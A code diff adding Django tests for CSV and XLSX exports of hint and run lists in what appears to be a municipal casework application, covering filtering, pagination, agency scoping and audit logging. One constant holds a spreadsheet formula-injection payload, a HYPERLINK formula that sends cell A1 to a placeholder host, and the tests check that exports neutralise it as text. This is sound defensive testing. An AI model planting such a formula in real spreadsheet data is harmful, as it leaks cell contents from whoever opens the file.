@@ -243,3 +243,103 @@ def test_a_rejected_link_is_audited_and_kept_apart_in_later_runs(imported_city, 
     con.close()
     if len(persons) == 2:
         assert persons[pair["uid_left"]] != persons[pair["uid_right"]]
+
+
+# --- exports of the Hinweise and Abgleich lists ------------------------------------------------
+
+FORMULA = '=HYPERLINK("https://example.invalid/?d="&A1;"Klick")'
+
+
+def _csv_rows(response) -> list[list[str]]:
+    import io
+
+    assert response.status_code == 200
+    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
+
+
+def _xlsx_rows(response) -> list[list]:
+    import io
+
+    import openpyxl
+
+    assert response.status_code == 200
+    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
+    return [[cell.value for cell in row] for row in sheet.iter_rows()]
+
+
+def test_the_hint_export_has_the_hints_of_the_filtered_page_on_all_pages(client, kim):
+    from tests.app.test_casework import build_city
+
+    build_city()
+    client.force_login(kim)
+    page = client.get("/hinweise/", {"regel": "SCHULE_OHNE_MELDUNG"})
+    shown = [h.hint_id for h in page.context["page"].object_list]
+    assert 'href="/hinweise/export.csv?regel=SCHULE_OHNE_MELDUNG"' in page.text
+    rows = _csv_rows(client.get("/hinweise/export.csv", {"regel": "SCHULE_OHNE_MELDUNG"}))
+    assert rows[0][:2] == ["Regel", "Bezeichnung"]
+    by_id = {h.hint_id: h.objekt_id for h in Hint.objects.all()}
+    assert [row[4] for row in rows[1:]] == [by_id[hint_id] for hint_id in shown]
+    assert {row[0] for row in rows[1:]} == {"SCHULE_OHNE_MELDUNG"} and len(rows) == 4
+    xlsx = _xlsx_rows(client.get("/hinweise/export.xlsx", {"regel": "SCHULE_OHNE_MELDUNG"}))
+    assert [row[4] for row in xlsx[1:]] == [row[4] for row in rows[1:]]
+    assert client.get("/hinweise/export.pdf").status_code == 404
+
+
+def test_the_hint_export_lists_every_page_not_only_the_first(client, kim, monkeypatch):
+    from django.core import paginator
+
+    from tests.app.test_casework import build_city
+
+    build_city()
+    monkeypatch.setattr(paginator.Paginator, "__init__", _small_pages(paginator.Paginator.__init__))
+    client.force_login(kim)
+    assert len(client.get("/hinweise/").context["page"].object_list) == 2
+    assert len(_csv_rows(client.get("/hinweise/export.csv"))) == 1 + Hint.objects.count()
+
+
+def _small_pages(init):
+    def small(self, object_list, per_page, *args, **kwargs):
+        init(self, object_list, 2, *args, **kwargs)
+
+    return small
+
+
+def test_the_hint_export_is_audited_and_has_no_hint_of_another_agency(client, fabian):
+    from tests.app.test_casework import build_city
+
+    build_city()
+    client.force_login(fabian)
+    rows = _csv_rows(client.get("/hinweise/export.csv"))
+    assert {row[0] for row in rows[1:]} == {"KG_KIND_NICHT_GEMELDET"}
+    event = AuditEvent.objects.get(action=AuditAction.EXPORT, object_type="hint_list")
+    assert event.actor_username == "fabian" and event.purpose.startswith("Export")
+    assert sorted(event.details["hints"]) == [f"H-KG-{i}" for i in range(1, 6)]
+
+
+def test_a_formula_in_a_hint_is_exported_as_text(client, kim):
+    from tests.app.test_casework import build_city
+
+    build_city()
+    Hint.objects.update(explanation=FORMULA)
+    client.force_login(kim)
+    rows = _csv_rows(client.get("/hinweise/export.csv"))
+    assert {row[2] for row in rows[1:]} == {"'" + FORMULA}
+    xlsx = _xlsx_rows(client.get("/hinweise/export.xlsx"))
+    assert {row[2] for row in xlsx[1:]} == {"'" + FORMULA}
+
+
+def test_the_run_list_export_has_the_runs_the_page_shows(client, kim, fabian):
+    for day in (1, 2, 3):
+        Run.objects.create(
+            stichtag=dt.date(2026, 9, day), status=RunStatus.FAILED, message=FORMULA, channel="cli"
+        )
+    client.force_login(fabian)
+    page = client.get("/abgleich/")
+    shown = [run.pk for run in page.context["runs"]]
+    assert "/abgleich/export.xlsx" in page.text
+    rows = _csv_rows(client.get("/abgleich/export.csv"))
+    assert rows[0] == ["Nr.", "Stichtag", "gestartet", "Status", "Ergebnis"]
+    assert [int(row[0]) for row in rows[1:]] == shown
+    assert rows[1][1] == "03.09.2026" and rows[1][4] == "'" + FORMULA
+    xlsx = _xlsx_rows(client.get("/abgleich/export.xlsx"))
+    assert [row[0] for row in xlsx[1:]] == shown and xlsx[1][4] == "'" + FORMULA
